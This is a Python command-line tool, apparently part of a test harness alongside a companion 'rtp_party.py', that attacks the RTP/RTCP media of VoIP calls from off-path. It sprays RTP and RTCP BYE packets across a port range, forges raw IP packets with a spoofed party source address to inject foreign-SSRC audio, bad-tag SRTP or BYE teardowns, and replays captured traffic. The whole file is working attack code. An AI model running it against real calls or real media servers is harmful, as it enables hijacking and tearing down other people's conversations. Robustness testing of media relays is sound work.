#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-only
"""Attacks on the media of calls, by who is not on its way.

  rtp_attack.py spray HOST:LOW-HIGH --bind A[:P] --rate N
      RTP in sequence, and RTCP, to each of the ports, over and over until SIGTERM; whoever takes
      the first packets that come for the party's would take these
  rtp_attack.py forge HOST:PORT --from A:P --kind KIND --count N --rate N [--ssrc N]
      with the exact address of a party as source; KIND is
        ssrc   RTP, each packet of another SSRC        tag   SRTP with a wrong tag, of --ssrc
        bye    RTCP BYE of --ssrc                      srtcp SRTCP BYE with a wrong tag, of --ssrc
  rtp_attack.py replay HOST:PORT --from A:P --tape FILE --rate N
      the same of what rtp_party.py has put on tape

Prints a line of JSON at its end: what was sent, and how much came back.
"""
import argparse
import json
import os
import random
import select
import signal
import socket
import struct
import time

PCMA = 8


def endpoint(text):
    host, _, port = text.rpartition(":")
    return host, int(port)


def rtp(ssrc, seq, body):
    return struct.pack("!BBHII", 0x80, PCMA, seq & 0xFFFF, seq * 160 & 0xFFFFFFFF, ssrc) + body


def bye(ssrc):
    """An empty receiver report and a BYE (RFC 3550 6.1, 6.6)."""
    return struct.pack("!BBHI", 0x80, 201, 1, ssrc) + struct.pack("!BBHI", 0x81, 203, 1, ssrc)


class Pace:
    def __init__(self, rate):
        self.rate, self.count, self.begin = rate, 0, time.monotonic()

    def step(self):
        self.count += 1
        ahead = self.count / self.rate - (time.monotonic() - self.begin)
        if ahead > 0.005:
            time.sleep(ahead)


class Forger:
    """Sends with any source; nothing is bound to it, so what comes back is the party's."""

    def __init__(self, source, to):
        self.source, self.to, self.sent = endpoint(source), endpoint(to), 0
        self.raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)

    def send(self, data, above=0):
        """above: 1 for RTCP, of which both ports are one higher."""
        udp = struct.pack("!HHHH", self.source[1] + above, self.to[1] + above, 8 + len(data), 0) + data
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0,
                         socket.inet_aton(self.source[0]), socket.inet_aton(self.to[0]))
        self.raw.sendto(ip + udp, (self.to[0], 0))
        self.sent += 1


def forged(args, n):
    """The n-th packet, and whether it is RTCP."""
    if args.kind == "ssrc":
        return rtp(random.getrandbits(32), n, b"\xd5" * 160), 0
    if args.kind == "tag":
        # ahead of where the party is and behind it, so that rollovers might be counted, too
        return rtp(args.ssrc, n * 61, os.urandom(170)), 0
    if args.kind == "bye":
        return bye(args.ssrc), 1
    return bye(args.ssrc)[:8] + os.urandom(8) + struct.pack("!I", 0x80000000 | n + 1) + os.urandom(10), 1


def forge(args):
    forger, pace = Forger(args.source, args.to), Pace(args.rate)
    for n in range(args.count):
        forger.send(*forged(args, n))
        pace.step()
    return {"sent": forger.sent}


def replay(args):
    forger, pace = Forger(args.source, args.to), Pace(args.rate)
    report = {"rtp": 0, "rtcp": 0}
    with open(args.tape, encoding="ascii") as tape:
        for line in tape:
            kind, _, data = line.strip().partition(" ")
            forger.send(bytes.fromhex(data), kind == "rtcp")
            report[kind] += 1
            pace.step()
    return {"sent": forger.sent, **report}


def spray(args):
    host, _, ports = args.to.rpartition(":")
    low, _, high = ports.partition("-")
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind(endpoint(args.bind) if ":" in args.bind else (args.bind, 0))
    sock.setblocking(False)
    going, pace = [True], Pace(args.rate)
    report = {"sent": 0, "heard": 0, "rounds": 0}
    signal.signal(signal.SIGTERM, lambda *_: going.clear())
    ssrc = random.getrandbits(32)

    def listen():
        while select.select([sock], [], [], 0)[0]:
            sock.recv(4096)
            report["heard"] += 1

    while going:
        data = rtp(ssrc, report["rounds"], os.urandom(170))
        report["rounds"] += 1
        for port in range(int(low), int(high or low) + 1):
            try:
                sock.sendto(data if port % 2 == 0 else bye(ssrc), (host, port))
                report["sent"] += 1
            except OSError:
                pass
            pace.step()
        listen()
    time.sleep(0.2)
    listen()
    return report


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("how", choices=("spray", "forge", "replay"))
    parser.add_argument("to")
    parser.add_argument("--bind", default="0.0.0.0")
    parser.add_argument("--from", dest="source")
    parser.add_argument("--kind", choices=("ssrc", "tag", "bye", "srtcp"))
    parser.add_argument("--count", type=int, default=1000)
    parser.add_argument("--rate", type=float, default=5000)
    parser.add_argument("--ssrc", type=lambda text: int(text, 0), default=0xA11CE001)
    parser.add_argument("--tape")
    args = parser.parse_args()
    how = {"spray": spray, "forge": forge, "replay": replay}[args.how]
    print(json.dumps(how(args)), flush=True)


if __name__ == "__main__":
    main()
